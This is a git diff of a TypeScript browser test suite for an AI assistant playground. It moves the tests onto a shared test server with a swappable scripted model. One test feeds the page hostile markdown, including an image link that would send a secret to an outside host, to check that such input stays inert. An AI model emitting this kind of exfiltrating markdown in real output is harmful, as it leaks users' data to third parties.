@@ -3,6 +3,7 @@ import { mkdtempSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { after, test } from 'node:test'
+import type { LanguageModelV4 } from '@ai-sdk/provider'
 import { scripted, type Script } from '../../src/models/scripted.ts'
 import { freePort } from '../ports.ts'
 import type { TestServer } from '../server.ts'
@@ -20,20 +21,32 @@ const weather = {
   },
 }
 
-/** A server whose model plays the script, and an assistant of it. */
-async function serve(
-  script: Script,
-  tools: (typeof weather)[] = [],
-  how: { dataDir?: string; env?: Record<string, string> } = {},
-) {
-  const model = scripted(script)
-  const server = await startTestServer({ models: { scripted: model }, ...how })
+let playing = scripted([])
+/** Plays what the test at work has given it. */
+const stage: LanguageModelV4 = {
+  ...playing,
+  doGenerate: (call) => playing.doGenerate(call),
+  doStream: (call) => playing.doStream(call),
+}
+/** One for all tests, because a browser reads and compiles the console once for each address. */
+let shared: Promise<TestServer> | undefined
+after(async () => (await shared)?.[Symbol.asyncDispose]())
+
+/** A server whose model plays the script, and a new assistant of it. */
+async function serve(script: Script, tools: (typeof weather)[] = []) {
+  shared ??= startTestServer({ models: { scripted: stage } })
+  return withAssistant(await shared, script, tools)
+}
+
+async function withAssistant(server: TestServer, script: Script, tools: (typeof weather)[] = []) {
+  playing = scripted(script)
   const assistant = await server.client.beta.assistants.create({ model: 'scripted', name: 'Tutor', tools })
-  return { ...server, model, assistant, at: `playground?assistant=${assistant.id}` }
+  const { url, apiKey, client } = server
+  return { url, apiKey, client, model: playing, assistant, at: `playground?assistant=${assistant.id}` }
 }
 
 test('a message is written, its answer streams in, and Stop ends it', options, async () => {
-  await using server = await serve([{ text: ['Well, ', '**one** '], hang: true }, { text: 'Done.' }])
+  const server = await serve([{ text: ['Well, ', '**one** '], hang: true }, { text: 'Done.' }])
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
   await page.getByRole('textbox', { name: 'Message' }).fill('How many?')
@@ -54,7 +67,7 @@ test(
   options,
   async () => {
     const calls = ['Paris', 'Tokyo'].map((city) => ({ name: 'get_weather', arguments: { city } }))
-    await using server = await serve(
+    const server = await serve(
       [{ toolCalls: calls }, { text: 'Sun and rain.' }, { toolCalls: calls }, { text: 'As before.' }],
       [weather],
     )
@@ -93,7 +106,7 @@ test(
   'a screen reader is told that the assistant answers, and then the whole answer at once',
   options,
   async () => {
-    await using server = await serve([{ text: 'Yes.' }, { text: ['One ', 'two ', 'three.'], delayMs: 50 }])
+    const server = await serve([{ text: 'Yes.' }, { text: ['One ', 'two ', 'three.'], delayMs: 50 }])
     await using seen = await visit(server, { at: server.at })
     const { page } = seen
     const message = page.getByRole('textbox', { name: 'Message' })
@@ -119,7 +132,7 @@ test(
   'an assistant without tools is offered some, and they are saved with the next message',
   options,
   async () => {
-    await using server = await serve([{ text: 'Ready.' }])
+    const server = await serve([{ text: 'Ready.' }])
     await using seen = await visit(server, { at: server.at })
     const { page } = seen
     await page.getByRole('button', { name: 'add Python' }).click()
@@ -134,7 +147,7 @@ test(
 )
 
 test('whoever signs out is asked first when the form has changes that are not saved', options, async () => {
-  await using server = await serve([])
+  const server = await serve([])
   await using seen = await visit(server, { at: `assistants/${server.assistant.id}` })
   const { page } = seen
   await page.getByLabel('Instructions').fill('Be kind.')
@@ -152,7 +165,7 @@ test('whoever signs out is asked first when the form has changes that are not sa
 })
 
 test('what cannot be shown of a stream is said, and is no lost connection', options, async () => {
-  await using server = await serve([{ text: ['One ', 'two.'], hang: true }])
+  const server = await serve([{ text: ['One ', 'two.'], hang: true }])
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
   await page.route('**/stream', (route) =>
@@ -168,7 +181,7 @@ test('what cannot be shown of a stream is said, and is no lost connection', opti
 })
 
 test('a reload in the middle of an answer goes on with it', options, async () => {
-  await using server = await serve([{ text: ['The first half, ', 'the second.'], delayMs: 1_500 }])
+  const server = await serve([{ text: ['The first half, ', 'the second.'], delayMs: 700 }])
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
   await page.getByRole('textbox', { name: 'Message' }).fill('Tell')
@@ -195,7 +208,7 @@ test('an example shows how it works, on the first visit', options, async () => {
 })
 
 test('files that are attached go with the message: for a tool, and to look at', options, async () => {
-  await using server = await serve([{ text: 'Seen.' }])
+  const server = await serve([{ text: 'Seen.' }])
   await server.client.beta.assistants.update(server.assistant.id, { tools: [{ type: 'code_interpreter' }] })
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
@@ -227,7 +240,7 @@ test('files that are attached go with the message: for a tool, and to look at', 
 })
 
 test('a parameter is given for one run alone', options, async () => {
-  await using server = await serve([{ text: 'Warm.' }, { text: 'As ever.' }])
+  const server = await serve([{ text: 'Warm.' }, { text: 'As ever.' }])
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
   await page.getByRole('button', { name: 'For this run' }).click()
@@ -251,7 +264,7 @@ test('a parameter is given for one run alone', options, async () => {
 })
 
 test('a message is edited and run again in a copy of the thread, which itself stays', options, async () => {
-  await using server = await serve([{ text: 'Blue.' }, { text: 'Sky.' }, { text: 'Green.' }])
+  const server = await serve([{ text: 'Blue.' }, { text: 'Sky.' }, { text: 'Green.' }])
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
   for (const [text, answer] of [
@@ -303,24 +316,23 @@ test('two models answer the same messages side by side', options, async () => {
 test('a server that went away is told of, and its answer goes on when it is back', options, async () => {
   const dataDir = mkdtempSync(join(tmpdir(), 'threadmill-test-'))
   const env = { THREADMILL_PORT: String(await freePort()) }
-  const first = await serve([{ text: 'The first half, ', hang: true }], [], { dataDir, env })
+  const models = { scripted: stage }
+  const server = await startTestServer({ dataDir, env, models })
+  const first = await withAssistant(server, [{ text: 'The first half, ', hang: true }])
   await using seen = await visit(first, { at: first.at })
   const { page } = seen
   await page.getByRole('textbox', { name: 'Message' }).fill('Tell')
   await page.keyboard.press('Enter')
   await page.getByRole('log').getByText('The first half,').waitFor()
-  await first.server.close()
+  await server.server.close()
   await page.getByText('The stream of the answer broke off.').waitFor()
   await page.getByText('The connection to the server is lost').waitFor()
   assert.ok(
     await page.evaluate('document.documentElement.scrollHeight <= innerHeight'),
     'what is told moves nothing out of the window',
   )
-  await using again = await startTestServer({
-    dataDir,
-    env,
-    models: { scripted: scripted([{ text: 'The whole.' }]) },
-  })
+  playing = scripted([{ text: 'The whole.' }])
+  await using again = await startTestServer({ dataDir, env, models })
   await page.getByRole('log').getByText('The whole.').waitFor()
   await page.getByText('The stream of the answer broke off.').waitFor({ state: 'hidden' })
   assert.equal(again.url, first.url)
@@ -333,7 +345,7 @@ test('what strangers write does nothing', options, async () => {
     '![leak](https://example.org/leak?q=secret)',
     '[safe](https://example.org/)',
   ].join('\n\n')
-  await using server = await serve([{ text: hostile }])
+  const server = await serve([{ text: hostile }])
   await using seen = await visit(server, { at: server.at })
   const { page } = seen
   await page.getByRole('textbox', { name: 'Message' }).fill(hostile)
@@ -349,7 +361,7 @@ test('what strangers write does nothing', options, async () => {
   assert.equal(await page.evaluate(() => 'hit' in globalThis), false)
 })
 
-const said = async ({ client }: TestServer, threadId: string) =>
+const said = async ({ client }: Pick<TestServer, 'client'>, threadId: string) =>
   (await client.beta.threads.messages.list(threadId, { order: 'asc' })).data.map(({ content: [part] }) =>
     part?.type === 'text' ? part.text.value : part?.type,
   )
